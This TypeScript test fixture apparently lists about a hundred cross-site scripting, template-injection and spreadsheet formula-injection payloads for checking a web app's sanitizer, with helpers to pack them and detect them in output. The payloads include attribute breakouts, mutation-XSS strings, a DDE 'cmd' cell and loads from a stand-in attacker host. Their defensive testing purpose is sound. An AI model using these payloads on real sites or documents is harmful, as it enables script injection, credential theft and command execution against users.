/**
 * Texts that try to run a script, to ask for something from elsewhere, or to lead a reader astray. `RUN` becomes a call of
 * `__ran`, which tests listen to, with the text's number; `EVIL` an address of nobody's, with the same number.
 */
const WRITTEN: Record<string, readonly string[]> = {
  'markup between tags': [
    '<script>RUN</script>',
    '<ScRiPt\t>RUN</ScRiPt >',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '<img src=x onerror=RUN>',
    '<img/src=x/onerror=RUN//',
    '<input autofocus onfocus=RUN>',
    '<details open ontoggle=RUN><summary>x</summary></details>',
    '<video src=x onerror=RUN></video>',
    '<body onload=RUN><marquee onstart=RUN>x</marquee>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<object data="data:text/html,<script>parent.RUN</script>"></object>',
    '<embed src="javascript:RUN">',
    '<base href="https://EVIL/"><meta http-equiv=refresh content="0;url=javascript:RUN">',
    '<template shadowrootmode=open><img src=x onerror=RUN></template>',
    '<link rel=stylesheet href="https://EVIL/a.css"><link rel=prefetch href="//EVIL/b">',
    '<dialog open><form method=dialog><button formaction="javascript:RUN" autofocus>ok</button></form></dialog>',
  ],
  'out of an attribute': [
    '" autofocus onfocus="RUN" x="',
    "' autofocus onfocus='RUN' x='",
    '"><img src=x onerror=RUN>',
    "'><svg onload=RUN>",
    '` onmouseover=RUN x=`',
    ' onfocus=RUN autofocus tabindex=1 ',
    '&quot;&gt;&lt;img src=x onerror=RUN&gt;',
    '&#34;&#62;&#60;svg onload=RUN&#62;',
    '\\"><img src=x onerror=RUN>\\',
  ],
  'out of an element of letters': [
    '</textarea><img src=x onerror=RUN>',
    '</title><svg onload=RUN>',
    '</option></select><img src=x onerror=RUN>',
    '--><img src=x onerror=RUN><!--',
    '</style></noscript></xmp><img src=x onerror=RUN>',
    '<![CDATA[<img src=x onerror=RUN>]]>',
  ],
  'out of a script or its data': [
    '</script><script>RUN</script>',
    '</script\n><svg/onload=RUN>',
    '<!--<script>RUN//',
    '";RUN;//',
    "';RUN;//",
    `\`+RUN+\`${'$'}{RUN}`,
    '\\u003cimg src=x onerror=RUN\\u003e',
    '\u2028RUN\u2029',
    '"}],"x":"</script><img src=x onerror=RUN>',
  ],
  addresses: [
    '[paina](javascript:RUN)',
    '[paina](JaVaScRiPt:RUN)',
    '[paina](javascript&colon;RUN)',
    '[paina](java\tscript:RUN)',
    '[paina](\u0001javascript:RUN)',
    '[paina](data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==)',
    '[paina](vbscript:RUN)',
    '[paina](//EVIL/sivu "onclick=RUN")',
    '[x](</files/a" onerror="RUN>)',
    '<javascript:RUN>',
    'javascript:RUN//https://example.org',
    'https://example.org/"onmouseover="RUN',
    'https://EVIL/%22%3E%3Cscript%3ERUN%3C/script%3E',
  ],
  Markdown: [
    '![kuva](https://EVIL/kuva.png)',
    '![kuva](javascript:RUN)',
    '![x" onerror="RUN](/files/x)',
    '![x](/files/../../x"onerror="RUN")',
    '![x][r]\n\n[r]: https://EVIL/r.png "onload=RUN"',
    '```html"onclick="RUN\n<script>RUN</script>\n```',
    '`<img src=x onerror=RUN>`',
    '<div onclick=RUN>\n\n**x**\n\n</div>',
    '| a |\n|---|\n| <img src=x onerror=RUN> |',
    '# <svg onload=RUN> {#x onclick=RUN}',
    '[a]: javascript:RUN\n\n[a]',
  ],
  'pictures and formulas in code': [
    '<svg onload=RUN></svg>',
    '<svg><script href="data:text/javascript,RUN"/></svg>',
    '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/></svg>',
    '<svg><foreignObject><iframe src="javascript:RUN"></iframe></foreignObject></svg>',
    '<svg><set attributeName=href to="javascript:RUN"/></svg>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:RUN">x</maction></math>',
    '<math href="javascript:RUN">x</math>',
  ],
  'what changes when it is read again': [
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
    '<xmp><p title="</xmp><svg/onload=RUN>">',
    '<select><style></select><img src=x onerror=RUN></style>',
    '<p title="<!--"><img src=x title="--><img src=x onerror=RUN>">',
  ],
  templates: [
    '<%= globalThis.RUN %>',
    '<%- "<img src=x onerror=RUN>" %>',
    '{{constructor.constructor("RUN")()}}',
    `${'$'}{RUN} #{RUN} *{RUN} @{RUN}`,
    '{{{<img src=x onerror=RUN>}}} {%raw%}<svg onload=RUN>{%endraw%}',
    '$t(errors.invalid) {{title}} {{- x}}<img src=x onerror=RUN>',
  ],
  styles: [
    '<style>@import "https://EVIL/a.css";*{background:url(//EVIL/b)}</style>',
    '<p style="background:url(https://EVIL/c);width:expression(RUN)">x</p>',
    '<div style="position:fixed;inset:0;z-index:9999"><a href="https://EVIL/">x</a></div>',
    'red;}</style><img src=x onerror=RUN>',
  ],
  'signs that mislead': [
    '\u202e<img src=x onerror=RUN>\u202c',
    '＜script＞RUN＜/script＞',
    '\u2066\u200b<scr\u200bipt>RUN</script>\u2069',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '\ufeff<svg onload=RUN>\u0085',
    '<ıframe srcdoc="<img src=x onerror=parent.RUN>"><ſcript>RUN</ſcript>',
  ],
  'captions and tasks': [
    'WEBVTT\n\n00:01.000 --> 00:02.000\n<v <img src=x onerror=RUN>><c.x>hei</c>',
    'STYLE ::cue{background:url(https://EVIL/v)} <i.onload=RUN>',
    '<p class="h5p" onclick="RUN">*<img src=x onerror=RUN>:vihje*</p>',
    '{"library":"H5P.Evil 1.0","params":"<img src=x onerror=RUN>"}',
  ],
  'questions of other systems': [
    '::<img src=x onerror=RUN>::[html]<svg onload=RUN>{=a ~<script>RUN</script>}',
    '<text><![CDATA[<img src=x onerror=RUN>]]></text><file name="x" encoding="base64">PHN2Zy8+</file>',
    '{1:MULTICHOICE:=<img src=x onerror=RUN>~%0%x}',
  ],
  'cells of tables': [
    '=HYPERLINK("https://EVIL/","RUN")',
    '@SUM(1+1)*cmd|"/c RUN"!A0',
    '+IMPORTXML("https://EVIL/","//a")',
    '-2+3+RUN',
    '\t=RUN',
    '%0A-3+RUN;"=1"',
  ],
  'one for many places': [
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=RUN )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=RUN//>\\x3e',
  ],
};

export interface HostileText {
  number: number;
  kind: string;
  text: string;
}

export const EVIL_HOST = 'paha.example';

export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries(WRITTEN)
  .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })))
  .map(({ kind, text }, number) => ({
    number,
    kind,
    text: text.replaceAll('RUN', `__ran(${number})`).replaceAll('EVIL', EVIL_HOST),
  }));

/** All of them in as few texts of at most `longest` letters as they fit into; those that are longer by themselves are left out. */
export function packed(longest: number, between = ' '): string[] {
  const texts: string[] = [];
  for (const { text } of HOSTILE_TEXTS.filter((one) => one.text.length <= longest)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + between.length + text.length <= longest)
      texts[texts.length - 1] = last + between + text;
    else texts.push(text);
  }
  return texts;
}

/** Which of them stand in a text as they were written, line ends aside. */
export const hostileIn = (text: string): number[] =>
  HOSTILE_TEXTS.filter((one) => text.includes(one.text)).map(({ number }) => number);
